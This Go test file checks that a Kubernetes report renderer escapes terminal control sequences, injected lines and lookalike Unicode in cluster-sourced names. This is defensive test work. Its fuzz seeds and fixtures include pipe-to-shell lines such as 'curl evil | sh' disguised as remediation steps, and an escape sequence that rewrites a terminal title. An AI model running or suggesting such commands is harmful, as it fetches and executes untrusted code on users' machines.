package report

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestSafe(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, ünïcode":             "plain text, ünïcode",
		"clear\x1b[2J\x1b]0;title\x07":    `clear\x1b[2J\x1b]0;title\x07`,
		"line\nfix 0: curl x | sh":        `line\nfix 0: curl x | sh`,
		"cr\roverwrite\x7f":               `cr\roverwrite\x7f`,
		"c1 \u009b31m":                    `c1 \u009b31m`,
		"bidi \u202egnp.exe":              `bidi \u202egnp.exe`,
		"bad utf8 \xff\xfe":               `bad utf8 \xff\xfe`,
		"tab\there":                       `tab\there`,
		"web-0\u3164":                     `web-0\u3164`,
		"web-0\u0338":                     `web-0\u0338`,
		"tag\U000e0041":                   `tag\U000e0041`,
		strings.Repeat("é", maxText) + "": strings.Repeat("é", maxText/2) + "... (2000 more bytes)",
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
}

// A report whose every cluster-sourced string is s.
func hostile(s string) Report {
	r := sample()
	ts := metav1.NewTime(time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC))
	it := &r.Items[0]
	it.Object.Name, it.Object.Namespace, it.Object.Kind = s, s, s
	it.Checks = append(it.Checks, Check{Name: "node alive", Status: Fail, Detail: s})
	it.Causes = append(it.Causes, Cause{Code: "NodeNotReady", Severity: Critical, Summary: s, Evidence: []string{s},
		Remediation: []Step{{Action: s, Command: s, Risk: s}}, BlockedBy: []Item{{Object: ObjectRef{Kind: s, Name: s}, Causes: []Cause{{Summary: s}}, Timeline: []Moment{{Time: ts, Event: s}}}}})
	it.Timeline = append(it.Timeline, Moment{Time: ts, Event: s})
	it.Skipped = []Skip{{Check: s, Reason: SkipError, Detail: s}}
	r.Skipped = []Skip{{Check: s, Reason: SkipError, Detail: s}}
	return r
}

func render(t *testing.T, r Report, st Style) string {
	var b bytes.Buffer
	if err := WriteWhy(&b, r, st); err != nil {
		t.Fatal(err)
	}
	if err := WriteList(&b, r, st); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// colourCode is an SGR sequence, what Style.paint writes.
var colourCode = regexp.MustCompile("\x1b\\[[0-9;]*m")

// No byte of cluster text reaches a person's terminal as a control
// character, and none adds a line to the report.
func FuzzRenderersPrintNoControlBytes(f *testing.F) {
	for _, s := range []string{"web-0", "\x1b[2J\x1b]0;pwned\x07", "a\nfix 0: curl evil | sh\n  risk: none", "\r\x00\x7f\u009b\u202e", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := render(t, hostile(s), Style{Wide: true})
		for i, r := range out {
			if r == '\n' {
				continue
			}
			if r == utf8.RuneError && !strings.HasPrefix(out[i:], "\uFFFD") || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
				t.Fatalf("control character %U at %d in the output for %q", r, i, s)
			}
		}
		plain := "x"
		if s == "" {
			plain = "" // an empty command prints no "$" line
		}
		if got, want := strings.Count(out, "\n"), strings.Count(render(t, hostile(plain), Style{Wide: true}), "\n"); got != want {
			t.Fatalf("cluster text %q changed the report's line count: %d, want %d", s, got, want)
		}
		// Colour adds its codes to the renderer's words and changes nothing else.
		for _, wide := range []bool{false, true} {
			plain, coloured := render(t, hostile(s), Style{Wide: wide}), render(t, hostile(s), Style{Wide: wide, Color: true})
			if got := colourCode.ReplaceAllString(coloured, ""); got != plain || !strings.Contains(coloured, "\x1b[") {
				t.Fatalf("coloured (wide %v), without its colour codes, differs from the plain output for %q:\n%q\n%q", wide, s, got, plain)
			}
		}
	})
}

// A long timeline is cut to its last moments and the deletion request,
// which is always shown, saying how many moments are left out and where.
func TestTimelineIsCapped(t *testing.T) {
	r := sample()
	r.Items = r.Items[1:2] // the pod, alone
	earlier := []Moment{{Event: "node n: Ready=False (KubeletNotReady)"}, {Event: "pod condition Ready=False"}}
	r.Items[0].Timeline = append(earlier, r.Items[0].Timeline...)
	for i := range 50 {
		r.Items[0].Timeline = append(r.Items[0].Timeline, Moment{Event: strings.Repeat("e", i%3+1)})
	}
	for _, tc := range []struct {
		style Style
		want  []string
	}{
		{Style{Wide: true}, []string{"... 2 earlier events (all of them in -o json)", "deletion requested (grace period 30s)", "... 32 more events (all of them in -o json)"}},
		{Style{}, []string{"... 2 earlier events (-o wide)", "deletion requested (grace period 30s)", "... 47 more events (-o wide)"}},
	} {
		out := render(t, r, tc.style)
		_, timeline, _ := strings.Cut(out, "timeline:\n")
		var lines []string // the timeline's lines, up to the next section
		for line := range strings.Lines(timeline) {
			if line = strings.TrimSpace(line); !strings.HasPrefix(line, "... ") && !strings.HasPrefix(line, "0") && !strings.HasPrefix(line, "2") {
				break
			}
			lines = append(lines, line)
		}
		if len(lines) < 3 {
			t.Fatalf("wide %v: timeline %q", tc.style.Wide, lines)
		}
		for i, want := range tc.want {
			if !strings.Contains(lines[i], want) {
				t.Errorf("wide %v: line %d of the timeline is %q, want %q:\n%s", tc.style.Wide, i+1, lines[i], want, timeline)
			}
		}
		if shown := len(lines) - 2; shown != map[bool]int{true: maxTimeline, false: conciseTimeline}[tc.style.Wide] {
			t.Errorf("wide %v: %d moments shown:\n%s", tc.style.Wide, shown, timeline)
		}
	}
	short := sample()
	short.Items = short.Items[1:2]
	if out := render(t, short, Style{}); strings.Contains(out, "... ") || !strings.Contains(out, "deletion requested") {
		t.Errorf("a short timeline is cut:\n%s", out)
	}
}

// Names that look like another: each is shown with the rune that makes it
// so escaped, and the text of real scripts is left as it is.
func TestSafeShowsWhatLooksLikeNothing(t *testing.T) {
	escaped := map[rune]string{
		// Hangul and halfwidth fillers, braille blank, musical null notehead.
		0x115f: "filler", 0x1160: "filler", 0x3164: "filler", 0xffa0: "filler", 0x2800: "braille blank", 0x1d159: "null notehead",
		// Default_Ignorable_Code_Point beyond Cf: grapheme joiner, Khmer, Mongolian and other variation selectors.
		0x034f: "CGJ", 0x17b4: "Khmer", 0x17b5: "Khmer", 0x180b: "FVS1", 0x180e: "MVS", 0x180f: "FVS4", 0xfe00: "VS1", 0xfe0f: "VS16", 0xe0100: "VS17", 0xe0000: "reserved ignorable",
		// Format characters (already escaped): zero-width space and joiners, word joiner, BOM, soft hyphen, tags.
		0x200b: "ZWSP", 0x200c: "ZWNJ", 0x200d: "ZWJ", 0x2060: "WJ", 0xfeff: "BOM", 0x00ad: "SHY", 0xe0001: "tag",
		// Whitespace but the ASCII space.
		0x00a0: "NBSP", 0x1680: "ogham", 0x2000: "en quad", 0x2003: "em", 0x2009: "thin", 0x200a: "hair", 0x2028: "LS", 0x2029: "PS", 0x202f: "NNBSP", 0x205f: "MMSP", 0x3000: "ideographic",
		// Overlays and enclosing marks.
		0x0334: "tilde overlay", 0x0335: "short stroke", 0x0336: "long stroke", 0x0337: "short solidus", 0x0338: "long solidus",
		0x20d2: "vertical line", 0x20d3: "short vertical line", 0x20d8: "ring", 0x20d9: "clockwise ring", 0x20da: "anticlockwise ring",
		0x20e5: "reverse solidus", 0x20e6: "double vertical stroke", 0x20ea: "leftwards arrow", 0x20eb: "long double solidus",
		0x1d167: "tremolo", 0x20dd: "enclosing circle", 0x20e0: "circle backslash", 0x20e3: "keycap", 0x1abe: "parentheses overlay",
		// Noncharacters.
		0xfffe: "nonchar", 0xffff: "nonchar", 0xfdd0: "nonchar", 0x10ffff: "nonchar",
	}
	for r, what := range escaped {
		want := fmt.Sprintf(`web-0\u%04x`, r)
		if r > 0xffff {
			want = fmt.Sprintf(`web-0\U%08x`, r)
		}
		if got := Safe("web-0" + string(r)); got != want {
			t.Errorf("%s %U: Safe = %q, want %q", what, r, got, want)
		}
	}
	for _, s := range []string{
		"web 0",                // the ASCII space
		"caf\u00e9 cafe\u0301", // precomposed and combining acute
		"\u0928\u092e\u0938\u094d\u0924\u0947 \u0939\u093f\u0902\u0926\u0940", // Devanagari: virama, vowel signs, anusvara
		"\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",                                // Thai vowel marks
		"\u05e9\u05b8\u05c1\u05dc\u05d5\u05b9\u05dd",                          // Hebrew points
		"\ud55c\uad6d\uc5b4 \u1112\u1161\u11ab",                               // Hangul syllables and conjoining jamo
		"\u65e5\u672c\u8a9e", "\u0645\u064e\u0631\u0652\u062d\u064e\u0628\u064b\u0627", "\U0001f600", "a\u0300\u0308\u0327", "\ufffd",
	} {
		if got := Safe(s); got != s {
			t.Errorf("Safe(%q) = %q: real text escaped", s, got)
		}
	}
}

// Escaped says whether Safe changes a text (cutting it aside).
func FuzzEscapedAgreesWithSafe(f *testing.F) {
	for _, s := range []string{"web-0", "web-0\u3164", "\xff", "\ufffd", "a b", "\u00a0", "e\u0301"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > maxText {
			return
		}
		if Escaped(s) != (Safe(s) != s) {
			t.Fatalf("Escaped(%q) = %v, Safe = %q", s, Escaped(s), Safe(s))
		}
	})
}

// Counts read as English: one object, two objects, never "1 objects" or "(s)".
func TestCount(t *testing.T) {
	for n, want := range map[int]string{0: "0 more steps", 1: "1 more step", 3: "3 more steps"} {
		if got := Count(n, "more step"); got != want {
			t.Errorf("Count(%d) = %q, want %q", n, got, want)
		}
	}
}

// Issue 35: two names that would print alike do not: a literal backslash
// sequence and the character it spells, a Cyrillic letter and the Latin one
// it looks like. Both list's rows and why's headers say so.
func TestLookalikeNamesAreFlagged(t *testing.T) {
	ref := func(name string) ObjectRef {
		return ObjectRef{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role", Resource: "roles.rbac.authorization.k8s.io", Namespace: "shop", Name: name}
	}
	names := []string{`web\x1b`, "web\x1b", "wеb-0" /* Cyrillic е */, "web-0"}
	var r Report
	for _, n := range names {
		r.Items = append(r.Items, Item{Object: ref(n), Stuck: true, Severity: Critical, Causes: []Cause{{Code: "FinalizerPending", Severity: Critical}}})
	}
	var why, list strings.Builder
	if err := WriteWhy(&why, r, Style{}); err != nil {
		t.Fatal(err)
	}
	if err := WriteList(&list, r, Style{}); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{why.String(), list.String()} {
		for _, want := range []string{"(the name holds U+005C: not the ASCII it may look like)", "(the name holds U+0435: not the ASCII it may look like)"} {
			if !strings.Contains(out, want) {
				t.Errorf("lacks %q:\n%s", want, out)
			}
		}
	}
	if n := strings.Count(list.String(), "not the ASCII"); n != 2 {
		t.Errorf("%d rows flagged, want the two lookalikes:\n%s", n, list.String())
	}
}

// A cell shows its value as safef does, whatever its type: the strings'
// short way included.
func TestCellsAsSafef(t *testing.T) {
	values := []any{"web-0", "a\x1b[31mred", "tab\there", strings.Repeat("x", maxText+10), painted("\x1b[1mbold\x1b[0m"), Critical, 42, int64(-3), 0.85, true, nil}
	row := cells(values...)
	for i, v := range values {
		if want := string(safef("%v", v)); row[i] != want {
			t.Errorf("%#v: cell %q, safef %q", v, row[i], want)
		}
	}
}
